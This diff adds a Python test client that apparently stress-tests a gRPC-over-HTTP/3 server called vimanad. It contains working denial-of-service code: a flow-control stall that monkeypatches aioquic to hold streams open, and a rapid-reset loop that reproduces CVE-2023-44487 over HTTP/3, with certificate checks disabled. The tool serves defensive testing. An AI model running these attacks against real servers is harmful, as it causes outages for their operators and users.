@@ -1,0 +1,231 @@
+#!/usr/bin/env python3
+"""An abusive gRPC-over-HTTP/3 client for vimanad's tests, built on aioquic
+(nobody here wrote it). Reads a JSON spec on stdin, prints a JSON result.
+
+Spec: {"connect": "HOST:PORT", "authority": "example.com", "mode": ..., ...}
+
+mode "stall": `connections` QUIC connections each open `streams` calls to
+  `path` with request message `message_hex`, and then stop reading: the
+  client's flow-control windows never open again (`max_stream_data` bytes
+  per stream, as advertised at the start). After `hold_s` seconds the
+  client reads again for up to `drain_s` seconds (when `read_after`) or
+  leaves. Result: {"opened": n, "calls": [{"grpc_status", "messages",
+  "error", "reset_code"}], "errors": [connection errors]}.
+
+mode "rapid_reset": one connection opens calls to `path` (request message
+  `message_hex`) and cancels each at once (RESET_STREAM + STOP_SENDING,
+  H3_REQUEST_CANCELLED), as fast as it can, for up to `duration_s`.
+  Result: {"opened": n, "close_code": the server's CONNECTION_CLOSE error
+  code or null, "closed_after_s": float or null, "reason": str or null}.
+"""
+
+import asyncio
+import json
+import ssl
+import struct
+import sys
+import time
+
+from aioquic.asyncio.client import connect
+from aioquic.asyncio.protocol import QuicConnectionProtocol
+from aioquic.h3.connection import H3_ALPN, H3Connection
+from aioquic.h3.events import DataReceived, HeadersReceived
+from aioquic.quic.configuration import QuicConfiguration
+from aioquic.quic.connection import QuicConnection
+from aioquic.quic.events import ConnectionTerminated, StreamReset
+
+H3_REQUEST_CANCELLED = 0x10C
+
+# A stalled connection sends no MAX_DATA / MAX_STREAM_DATA: it reads nothing.
+_write_connection_limits = QuicConnection._write_connection_limits
+_write_stream_limits = QuicConnection._write_stream_limits
+
+
+def _connection_limits(self, *args, **kwargs):
+    if getattr(self, "stalled", False):
+        return None
+    return _write_connection_limits(self, *args, **kwargs)
+
+
+def _stream_limits(self, *args, **kwargs):
+    if getattr(self, "stalled", False):
+        return None
+    return _write_stream_limits(self, *args, **kwargs)
+
+
+QuicConnection._write_connection_limits = _connection_limits
+QuicConnection._write_stream_limits = _stream_limits
+
+
+class Call:
+    def __init__(self):
+        self.buf = bytearray()
+        self.messages = 0
+        self.headers = []
+        self.trailers = []
+        self.error = None
+        self.reset_code = None
+        self.done = asyncio.Event()
+
+    def result(self):
+        fields = self.trailers or self.headers
+        status = next((v for k, v in fields if k == "grpc-status"), None)
+        message = next((v for k, v in fields if k == "grpc-message"), None)
+        return {
+            "grpc_status": int(status) if status is not None and status.isdigit() else None,
+            "grpc_message": message,
+            "messages": self.messages,
+            "partial_bytes": len(self.buf),
+            "error": self.error,
+            "reset_code": self.reset_code,
+        }
+
+
+class Client(QuicConnectionProtocol):
+    def __init__(self, *args, **kwargs):
+        super().__init__(*args, **kwargs)
+        self.http = H3Connection(self._quic)
+        self.calls = {}
+        self.closed = None
+
+    def quic_event_received(self, event):
+        if isinstance(event, ConnectionTerminated):
+            self.closed = (event.error_code, event.reason_phrase, time.monotonic())
+            for call in self.calls.values():
+                call.error = call.error or f"connection closed 0x{event.error_code:x}"
+                call.done.set()
+            return
+        if isinstance(event, StreamReset) and event.stream_id in self.calls:
+            call = self.calls[event.stream_id]
+            call.reset_code = event.error_code
+            call.done.set()
+        for ev in self.http.handle_event(event):
+            call = self.calls.get(getattr(ev, "stream_id", None))
+            if call is None:
+                continue
+            if isinstance(ev, HeadersReceived):
+                fields = [(k.decode(), v.decode("utf-8", "replace")) for k, v in ev.headers]
+                if call.headers:
+                    call.trailers = fields
+                else:
+                    call.headers = fields
+            elif isinstance(ev, DataReceived):
+                call.buf += ev.data
+                while len(call.buf) >= 5:
+                    (length,) = struct.unpack(">I", call.buf[1:5])
+                    if len(call.buf) < 5 + length:
+                        break
+                    del call.buf[: 5 + length]
+                    call.messages += 1
+            if getattr(ev, "stream_ended", False):
+                call.done.set()
+
+    def start_call(self, spec, message):
+        sid = self._quic.get_next_available_stream_id()
+        call = Call()
+        self.calls[sid] = call
+        headers = [
+            (b":method", b"POST"),
+            (b":scheme", b"https"),
+            (b":authority", spec["authority"].encode()),
+            (b":path", spec["path"].encode()),
+            (b"content-type", b"application/grpc"),
+            (b"te", b"trailers"),
+        ]
+        self.http.send_headers(sid, headers)
+        self.http.send_data(sid, b"\0" + struct.pack(">I", len(message)) + message, end_stream=True)
+        return sid, call
+
+    def cancel(self, sid):
+        for stop in (self._quic.reset_stream, self._quic.stop_stream):
+            try:
+                stop(sid, H3_REQUEST_CANCELLED)
+            except Exception:
+                pass
+
+
+def configuration(spec):
+    return QuicConfiguration(
+        is_client=True,
+        alpn_protocols=H3_ALPN,
+        verify_mode=ssl.CERT_NONE,
+        server_name=spec["authority"],
+        idle_timeout=60,
+        max_data=spec.get("max_data", 1 << 20),
+        max_stream_data=spec.get("max_stream_data", 64 * 1024),
+    )
+
+
+def address(spec):
+    host, _, port = spec["connect"].rpartition(":")
+    return host.strip("[]"), int(port)
+
+
+async def stall_one(spec, message, results, errors, ready):
+    host, port = address(spec)
+    async with connect(host, port, configuration=configuration(spec), create_protocol=Client) as client:
+        client._quic.stalled = True
+        calls = [client.start_call(spec, message)[1] for _ in range(spec["streams"])]
+        client.transmit()
+        ready.append(len(calls))
+        await asyncio.sleep(spec["hold_s"])
+        if spec.get("read_after"):
+            client._quic.stalled = False
+            client.transmit()
+            try:
+                await asyncio.wait_for(
+                    asyncio.gather(*(c.done.wait() for c in calls)), spec.get("drain_s", 10)
+                )
+            except asyncio.TimeoutError:
+                pass
+        results.extend(c.result() for c in calls)
+        if client.closed:
+            errors.append(f"closed 0x{client.closed[0]:x} {client.closed[1]!r}")
+        client.close()
+
+
+async def stall(spec):
+    message = bytes.fromhex(spec["message_hex"])
+    results, errors, ready = [], [], []
+    await asyncio.gather(
+        *(stall_one(spec, message, results, errors, ready) for _ in range(spec["connections"])),
+        return_exceptions=False,
+    )
+    return {"opened": sum(ready), "calls": results, "errors": errors}
+
+
+async def rapid_reset(spec):
+    message = bytes.fromhex(spec["message_hex"])
+    host, port = address(spec)
+    opened, started = 0, None
+    async with connect(host, port, configuration=configuration(spec), create_protocol=Client) as client:
+        started = time.monotonic()
+        while client.closed is None and time.monotonic() - started < spec["duration_s"]:
+            # The request goes out first, its cancellation right behind it
+            # (the HTTP/2 "rapid reset" of CVE-2023-44487, over HTTP/3).
+            sids = [client.start_call(spec, message)[0] for _ in range(16)]
+            client.transmit()
+            for sid in sids:
+                client.cancel(sid)
+            opened += len(sids)
+            client.transmit()
+            await asyncio.sleep(0)  # let the replies in
+        await asyncio.sleep(0.5)
+        closed = client.closed
+    return {
+        "opened": opened,
+        "close_code": closed[0] if closed else None,
+        "reason": closed[1] if closed else None,
+        "closed_after_s": round(closed[2] - started, 3) if closed else None,
+    }
+
+
+def main():
+    spec = json.loads(sys.stdin.read())
+    mode = {"stall": stall, "rapid_reset": rapid_reset}[spec["mode"]]
+    result = asyncio.run(asyncio.wait_for(mode(spec), spec.get("timeout_s", 60)))
+    print(json.dumps(result))
+
+
+if __name__ == "__main__":
+    main()
